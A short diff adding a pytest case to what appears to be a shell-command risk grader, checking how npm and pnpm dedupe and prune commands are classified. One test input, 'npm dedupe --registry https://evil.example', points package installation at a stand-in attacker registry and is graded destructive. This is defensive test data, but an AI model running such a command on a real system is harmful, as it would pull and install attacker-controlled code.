@@ -91,3 +91,15 @@ def test_everyday_inspectors(command: str, risk: RiskLevel) -> None:
 ])  # fmt: skip
 def test_buf_and_sqlc(command: str, risk: RiskLevel) -> None:
     assert grade(command) is risk, command
+
+
+@pytest.mark.parametrize(("command", "risk"), [
+    ("npm dedupe", R.NETWORK),  # reifies the tree as npm install does
+    ("npm ddp", R.NETWORK),
+    ("pnpm dedupe", R.NETWORK),
+    ("npm dedupe --registry https://evil.example", R.DESTRUCTIVE),
+    ("npm dedupe -g", R.SYSTEM),
+    ("npm prune", R.WORKSPACE_WRITE),
+])  # fmt: skip
+def test_dedupe_fetches_as_an_install_does(command: str, risk: RiskLevel) -> None:
+    assert grade(command) is risk, command
